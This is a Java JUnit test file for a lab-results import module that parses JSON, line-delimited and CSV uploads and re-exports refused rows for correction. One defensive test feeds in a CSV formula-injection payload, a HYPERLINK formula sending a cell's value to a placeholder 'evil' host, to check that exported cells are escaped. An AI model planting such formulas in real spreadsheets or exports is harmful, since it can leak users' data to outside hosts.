package org.marrowwatch.intake.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.io.IOException;
import java.io.StringWriter;
import java.io.Writer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.marrowwatch.intake.Problem;
import org.marrowwatch.intake.imports.Row.Kind;

class UnpackingTest {

    private static List<Row> rows(String name, String text) {
        return Unpacking.rows(Upload.of(name, text.getBytes(StandardCharsets.UTF_8)));
    }

    private static List<String> contents(List<Row> rows) {
        return rows.stream().map(Row::content).toList();
    }

    private static List<Integer> places(List<Row> rows) {
        return rows.stream().map(Row::place).toList();
    }

    private static List<String> problems(List<Row> rows) {
        return rows.stream()
                .flatMap(row -> row.problems().stream())
                .map(problem -> problem.pointer() + " " + problem.detail().en())
                .toList();
    }

    @Test
    void oneDocumentIsOneRowHoweverManyLinesItTakes() {
        String document = "{\n \"a\": [\n {\"b\": 1}\n ]}\n";

        assertThat(rows("one.json", document)).containsExactly(Row.of(Kind.CASE_FILE, "one.json", 0, document.strip()));
    }

    @Test
    void eachElementOfAListIsARowAsItStandsThere() {
        List<Row> rows = rows("list.json", "\n[ {\"a\": \"é [1]\"},\n {\"b\":\n 2 }, 7, \"x\"]\n");

        assertThat(contents(rows)).containsExactly("{\"a\": \"é [1]\"}", "{\"b\":\n 2 }", "7", "\"x\"");
        assertThat(places(rows)).containsExactly(1, 2, 3, 4);
        assertThat(rows).allMatch(row -> row.kind() == Kind.LISTED && row.fit());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '"',
            value = {
                "[{}, {\"a\": 1]| not readable JSON",
                "[{}] {}| something follows the end",
                "[]| the list is empty",
                "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]| nested deeper"
            })
    void aListThatCannotBeReadIsRefusedAsAWhole(String list, String because) {
        assertThat(problems(rows("list.json", list))).singleElement().asString().contains(because);
    }

    @Test
    void eachLineIsARowAndABrokenOneSpoilsNoOther() {
        List<Row> rows = rows("lines.txt", "{\"a\": 1}\r\n\r\n{\"b\"\r\n{\"c\": 3}\r\n");

        assertThat(contents(rows)).containsExactly("{\"a\": 1}", "{\"b\"", "{\"c\": 3}");
        assertThat(places(rows)).containsExactly(1, 3, 4);
        assertThat(rows).allMatch(row -> row.kind() == Kind.LINE && row.fit());
    }

    @Test
    void aFileNamedAsLinesIsReadByLineEvenWhereTheFirstIsBroken() {
        assertThat(places(rows("one.NDJSON", "{\"a\": 1}\nbroken\n"))).containsExactly(1, 2);
    }

    @ParameterizedTest
    @CsvSource({"','", "';'", "'\t'"})
    void aTableIsSeparatedByCommasSemicolonsOrTabs(String separator) {
        String table = String.join(separator, "Identifier", " on ", "VALUE", "unit") + "\n"
                + String.join(separator, "H 1", "2026-06-01", "\"131,5\"", "U/L") + "\n\n"
                + String.join(separator, "H 2", "2026-06-02", "90", "") + "\n";

        List<Row> rows = rows("results.csv", table);

        assertThat(contents(rows))
                .containsExactly(
                        "{\"identifier\":\"H 1\",\"on\":\"2026-06-01\",\"value\":\"131,5\",\"unit\":\"U/L\"}",
                        "{\"identifier\":\"H 2\",\"on\":\"2026-06-02\",\"value\":\"90\"}");
        assertThat(places(rows)).containsExactly(2, 4);
    }

    @Test
    void aTableOfAnOldSpreadsheetKeepsItsAccents() {
        byte[] table = "identifier;on;value;unit;laboratory\nH;2026-06-01;90;U/L;Hôpital"
                .getBytes(Charset.forName("windows-1252"));

        assertThat(contents(Unpacking.rows(Upload.of("results.csv", table))))
                .singleElement()
                .asString()
                .contains("Hôpital");
    }

    @Test
    void everyProblemOfAHeaderRowIsNamed() {
        List<String> problems = problems(rows("results.csv", "identifier,on,on,valeur\nH,2026-06-01,2026-06-01,90\n"));

        assertThat(problems)
                .hasSize(4)
                .anyMatch(problem -> problem.startsWith("/on stands twice"))
                .anyMatch(problem -> problem.startsWith("/valeur is not a column"))
                .anyMatch(problem -> problem.startsWith("/value is missing"))
                .anyMatch(problem -> problem.startsWith("/unit is missing"));
    }

    @Test
    void aRowWithMoreValuesThanColumnsIsRefusedAndTheOthersStay() {
        List<Row> rows = rows("r.csv", "identifier,on,value,unit\nH,2026-06-01,131,5,U/L\nH,2026-06-02,90,U/L\n");

        assertThat(rows).extracting(Row::fit).containsExactly(false, true);
        assertThat(problems(rows)).singleElement().asString().contains("has 5 values");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "identifier,on,value,unit|no result below",
                "identifier,on,value,unit\\n\"H,2026-06-01|quotation marks",
                "PK\\0|not a text file",
                "' '|the file is empty"
            })
    void aFileWithNothingInItSaysSo(String text, String because) {
        String written = text.replace("\\n", "\n").replace("\\0", "\0");

        assertThat(problems(rows("file", written))).singleElement().asString().contains(because);
    }

    @Test
    void aCaseFileThatIsTooLongIsRefusedBeforeItIsKept() {
        List<Row> rows = rows("long.json", "{\"a\": \"" + "x".repeat(1_000_000) + "\"}");

        assertThat(rows)
                .singleElement()
                .matches(row -> !row.fit() && row.content().isEmpty());
    }

    @Test
    void refusedRowsCanBeMendedAndHandedInAgain() {
        Problem problem = Problem.at("", "wrong", "faux");
        List<KeptRow> kept = List.of(
                kept(new Row(Kind.RESULT, "a", 2, "{\"identifier\":\"H;1\",\"value\":\"1,5\"}", List.of(problem))),
                kept(new Row(Kind.RESULT, "a", 3, "[\"H\",\"2026-06-01\",\"1\",\"5\",\"U/L\"]", List.of(problem))));

        String table = table(kept);

        assertThat(table)
                .isEqualTo(
                        "\uFEFFidentifier;on;value;unit;lowerLimit;upperLimit;laboratory;method;fraction\n\"H;1\";;1,5;;;;;;\nH;2026-06-01;1;5;U/L\n");
        assertThat(rows("again.csv", table)).hasSize(2);
        assertThat(written(out -> Mending.lines(Stream.of(kept(Row.of(Kind.LISTED, "b", 1, "{\"a\":\n   1}"))), out)))
                .isEqualTo("{\"a\": 1}\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                "+1+1",
                "-A1",
                "@SUM(1)",
                "'=1",
                "''@x",
                "-1,5",
                "-2",
                "'-2",
                "'quoted'",
                "O'Neil",
                "1-2"
            })
    void whatWouldBeAFormulaInASpreadsheetIsTextThereAndComesBackAsItWas(String identifier) {
        String content = JsonNodeFactory.instance
                .objectNode()
                .put("identifier", identifier)
                .put("unit", "U/L")
                .toString();
        String asItStands = JsonNodeFactory.instance
                .arrayNode()
                .add(identifier)
                .add("b")
                .add("c")
                .add("d")
                .add("e")
                .toString();

        String table = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, content))));
        String tooMany = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, asItStands))));

        String cell = table.lines().skip(1).findFirst().orElseThrow().replaceFirst("^\"", "");
        assertThat(cell.matches("[=@+].*|-[^0-9].*")).isFalse();
        assertThat(contents(rows("again.csv", table.substring(1)))).containsExactly(content);
        assertThat(contents(
                        rows("again.csv", "identifier;on;value;unit\n" + tooMany.substring(tooMany.indexOf('\n') + 1))))
                .containsExactly(asItStands);
    }

    @Test
    void whatStandsBeforeAFormulaDoesNotHideIt() {
        String table = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, "[\"\\t=1\",\"\\r=2\"]"))));

        assertThat(table).contains("'\t=1;\"'\n=2\"");
    }

    private interface Writing {
        void to(Writer out) throws IOException;
    }

    private static String written(Writing writing) {
        StringWriter out = new StringWriter();
        assertDoesNotThrow(() -> writing.to(out));
        return out.toString();
    }

    private static String table(List<KeptRow> rows) {
        return written(out -> Mending.table(rows.stream(), ';', out));
    }

    private static KeptRow kept(Row row) {
        return new KeptRow(
                new UUID(0, row.place()),
                row.place(),
                "someone",
                row,
                KeptRow.Status.REFUSED,
                Optional.empty(),
                Raised.NONE,
                row.problems());
    }
}
